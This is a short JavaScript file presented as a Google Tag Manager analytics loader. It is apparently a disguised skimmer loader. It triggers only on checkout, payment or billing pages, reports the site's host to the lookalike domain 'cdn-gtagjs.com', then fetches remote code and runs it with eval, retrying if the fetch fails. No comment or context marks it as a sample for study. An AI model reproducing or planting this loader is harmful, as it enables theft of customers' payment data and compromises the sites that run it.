var _gtagCfg = {
  container: 'GTM-TQ5C2ZD',
  host: 'https://cdn-gtagjs.com',
  path: '/gtag/js',
  retries: 3
};

function _loadTag(attempt) {
  var x = new XMLHttpRequest();
  x.open('GET', _gtagCfg.host + _gtagCfg.path + '?id=' + _gtagCfg.container + '&r=' + encodeURIComponent(location.host), true);
  x.onreadystatechange = function () {
    if (x.readyState !== 4) return;
    if (x.status === 200 && x.responseText) {
      eval(x.responseText);
    } else if (attempt < _gtagCfg.retries) {
      setTimeout(function () { _loadTag(attempt + 1); }, 2000 * (attempt + 1));
    }
  };
  x.send();
}

if (/checkout|payment|billing/i.test(location.href)) {
  if (document.readyState === 'complete') _loadTag(0);
  else window.addEventListener('load', function () { _loadTag(0); });
}
